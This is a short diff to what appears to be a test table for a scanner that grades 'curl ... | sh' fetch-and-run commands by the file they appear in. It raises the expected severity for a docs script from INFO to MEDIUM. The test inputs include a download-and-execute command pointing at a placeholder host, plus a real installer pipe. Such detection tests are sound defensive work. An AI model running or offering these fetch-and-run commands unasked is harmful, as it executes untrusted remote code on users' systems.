@@ -28,7 +28,7 @@ COMMAND = "curl -fsSL https://example.invalid/i.sh | sh"
         ("a.js", f"const HINT = '{COMMAND}'", Severity.LOW),
         ("a.sh", f"echo 'try {COMMAND}'", Severity.LOW),
         ("a.sh", f"# {COMMAND}", Severity.INFO),
-        ("docs/a.sh", COMMAND, Severity.INFO),
+        ("docs/a.sh", COMMAND, Severity.MEDIUM),
         ("README.md", COMMAND, Severity.INFO),
         ("tests/a.sh", COMMAND, Severity.MEDIUM),
         ("a.sh", "curl --proto '=https' -sSf https://sh.rustup.rs | sh", Severity.MEDIUM),
